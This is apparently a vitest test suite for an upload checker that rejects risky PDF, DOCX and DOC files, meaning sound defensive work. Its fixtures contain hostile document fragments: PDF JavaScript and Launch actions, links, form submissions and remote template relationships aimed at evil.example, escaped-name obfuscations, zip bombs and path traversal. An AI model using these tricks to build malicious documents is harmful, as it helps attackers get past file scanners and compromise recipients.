import { randomBytes } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import { deflateSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { compoundFileOf, DOCM, DOCX, pdfOf, sourceOf, zipOf } from '../../../tests/harness/sample-files.ts';
import { checkDocument } from './check-document.server.ts';

const check = async (bytes: Uint8Array) => (await checkDocument(sourceOf(bytes)))?.refusal ?? null;

const pdfWith = async (text: string) =>
  Buffer.from(
    (await pdfOf()).toString('latin1').replace('/Type /Catalog', `/Type /Catalog ${text}`),
    'latin1',
  );

test.each([
  ['a script', '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'],
  ['a script by reference', '/Names << /JavaScript 9 0 R >>'],
  ['a script whose name is escaped', '/OpenAction << /S /J#61va#53cript >>'],
  ['a script of a rendition', '/OpenAction << /S /Rendition /JS (app.alert(1)) >>'],
  ['a script as a stream', '/OpenAction << /S /Rendition /JS 12 0 R >>'],
  ['a program to start', '/OpenAction << /S /Launch /F (calc.exe) >>'],
])('refuses a PDF with %s', async (_, text) => {
  expect(await check(await pdfWith(text))).toBe('documentScript');
});

test.each([
  ['a link', '/Annots [<< /Subtype /Link /A << /S /URI /URI (https://evil.example) >> >>]'],
  ['a link whose name is escaped', '/A << /S /U#52I /URI <68> >>'],
  ['a form that is sent', '/OpenAction << /S /SubmitForm /F (https://evil.example) >>'],
])('refuses a PDF with %s for its links', async (_, text) => {
  expect(await check(await pdfWith(text))).toBe('documentLinks');
});

test.each([
  ['documentScript', '<< /S /JavaScript /JS (app.alert(1)) >>'],
  ['documentLinks', '<< /S /URI /URI (https://evil.example) >>'],
  ['documentBomb', ' '.repeat(17 << 20)],
])('refuses a PDF by %s in compressed objects', async (refusal, objects) => {
  const packed = deflateSync(Buffer.from(objects)).toString('latin1');
  const stream = `1 0 obj << /Type /Obj#53tm /Filter /FlateDecode >> stream\r\n${packed}\nendstream endobj`;
  expect(await check(Buffer.from(`%PDF-1.7\n${stream}\nstartxref 0 %%EOF`, 'latin1'))).toBe(refusal);
});

test('refuses a script anywhere in a long PDF, also across chunks', async () => {
  const mebibyte = 1 << 20;
  for (const at of [10, mebibyte - 5, mebibyte, 3 * mebibyte + 7]) {
    const text = `%PDF-1.7\n%${' '.repeat(at)}/S /J#61vaScript${' '.repeat(5 * mebibyte)} startxref 0 %%EOF`;
    expect(await check(Buffer.from(text)), `${at}`).toBe('documentScript');
  }
});

test('refuses a PDF with an attached file', async () => {
  expect(
    await check(await pdfOf({}, (document) => document.file(Buffer.from('MZ'), { name: 'a.exe' }))),
  ).toBe('documentAttachment');
});

test('refuses a PDF with a password for opening or for printing', async () => {
  for (const options of [{ userPassword: 'a' }, { ownerPassword: 'a' }]) {
    expect(await check(await pdfOf(options))).toBe('documentEncrypted');
  }
});

test('refuses a PDF that is also a ZIP', async () => {
  const pdf = await pdfOf();
  expect(await check(Buffer.concat([pdf, zipOf(DOCX)]))).toBe('documentPolyglot');
  expect(await check(Buffer.concat([pdf, zipOf(DOCX), Buffer.from('\n%%EOF')]))).toBe('documentPolyglot');
});

test('refuses a truncated PDF', async () => {
  const pdf = await pdfOf();
  expect(await check(pdf.subarray(0, pdf.length / 2))).toBe('unreadable');
});

test('accepts a PDF, also with 20 MB of random bytes that contain names of scripts by chance', async () => {
  expect(await check(await pdfOf())).toBeNull();
  const chance = randomBytes(20_000_000);
  for (let at = 0; at < chance.length - 10; at += 1000) chance.write('\x01/JS(\xff', at, 'latin1');
  const pdf = await pdfOf();
  expect(await check(Buffer.concat([pdf.subarray(0, 100), chance, pdf]))).toBeNull();
});

test.each([
  ['declares macros', DOCM],
  ['has undeclared macros', { ...DOCX, 'word/vbaProject.bin': 'x' }],
  ['has macros under an uppercase name', { ...DOCX, 'WORD/VBAPROJECT.BIN': 'x' }],
  ['has macros in another folder', { ...DOCX, 'x\\vbaProject.bin': 'x' }],
  ['has an ActiveX control', { ...DOCX, 'word/activeX/activeX1.bin': 'x' }],
])('refuses a DOCX that %s', async (_, files) => {
  expect(await check(zipOf(files))).toBe('documentMacros');
});

const relationshipOf = (type: string) =>
  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/t.dotm" TargetMode="External"/>`;
test.each([
  ['a template', { 'word/_rels/settings.xml.rels': relationshipOf('attachedTemplate') }],
  [
    'a template in UTF-16',
    { 'word/_rels/settings.xml.rels': Buffer.from(relationshipOf('attachedTemplate'), 'utf16le') },
  ],
  [
    'a template with character references',
    { 'WORD/_RELS/SETTINGS.XML.RELS': relationshipOf('attached&#84;emplate') },
  ],
  ['a linked object', { 'word/_rels/document.xml.rels': relationshipOf('oleObject') }],
  ['an embedded object', { 'word/embeddings/oleObject1.bin': 'x' }],
  ['another document', { 'word/_rels/document.xml.rels': relationshipOf('subDocument') }],
])('refuses a DOCX with %s', async (_, files) => {
  expect(await check(zipOf({ ...DOCX, ...files }))).toBe('documentObjects');
});

test('refuses a DOCX that unpacks to more than 200 MB, whatever it declares', async () => {
  const bomb = zipOf({ ...DOCX, 'word/media/image1.png': Buffer.alloc(201 << 20) });
  expect(await check(bomb)).toBe('documentBomb');
  // The declared size is in the last entry of this name, 46 bytes of header before it.
  const name = bomb.lastIndexOf('word/media/image1.png');
  bomb.writeUInt32LE(10, name - 46 + 24);
  expect(await check(bomb)).toBe('documentBomb');
});

test('refuses a DOCX with relationships shorter than declared, without an uncaught error', async () => {
  const file = zipOf({ ...DOCX, 'word/_rels/settings.xml.rels': 'short' });
  const name = file.lastIndexOf('word/_rels/settings.xml.rels');
  file.writeUInt32LE(2 << 20, name - 46 + 24);
  expect(await check(file)).toBe('documentBomb');
  await sleep(50); // An uncaught error fails the run.
});

test('refuses a DOCX with an encrypted part', async () => {
  expect(await check(zipOf(DOCX, 1))).toBe('documentEncrypted');
});

test.each([
  ['a ZIP of another kind', zipOf({ 'a.txt': 'a' })],
  ['a DOCX without text', zipOf({ '[Content_Types].xml': 'x' })],
  ['half a DOCX', zipOf(DOCX).subarray(0, 100)],
  ['a DOCX with bytes after its end', Buffer.concat([zipOf(DOCX), Buffer.from('x')])],
  ['a DOCX that leads out of its folder', zipOf({ ...DOCX, '../../a': 'x' })],
  [
    'a list of entries longer than a mebibyte',
    zipOf({
      ...DOCX,
      ...Object.fromEntries(Array.from({ length: 9_000 }, (_, n) => [`word/${'x'.repeat(80)}${n}`, ''])),
    }),
  ],
])('refuses %s as unreadable', async (_, bytes) => {
  expect(await check(bytes)).toBe('unreadable');
});

test('accepts a DOCX', async () => {
  expect(await check(zipOf(DOCX))).toBeNull();
});

test.each(['Macros', 'VBA', '_VBA_PROJECT', '_vba_project_cur'])('refuses a DOC with %s', async (name) => {
  expect(await check(compoundFileOf(['1Table', 'WordDocument', 'a', 'b', 'c', name]))).toBe('documentMacros');
});

test('refuses a DOC with a password in either format', async () => {
  expect(await check(compoundFileOf(['WordDocument'], 0x0100))).toBe('documentEncrypted');
  expect(await check(compoundFileOf(['EncryptionInfo', 'EncryptedPackage']))).toBe('documentEncrypted');
});

test('refuses a DOC with an object of another program', async () => {
  expect(await check(compoundFileOf(['WordDocument', '\u0001Ole10Native']))).toBe('documentObjects');
});

test('accepts a DOC and refuses a workbook', async () => {
  expect(await check(compoundFileOf(['1Table', 'WordDocument']))).toBeNull();
  expect(await check(compoundFileOf(['Workbook']))).toBe('unreadable');
});

test('throws an error of the storage instead of refusing the document', async () => {
  const away = { sizeBytes: 100, read: () => Promise.reject(new Error('away')) };
  await expect(checkDocument(away)).rejects.toThrow('away');
});
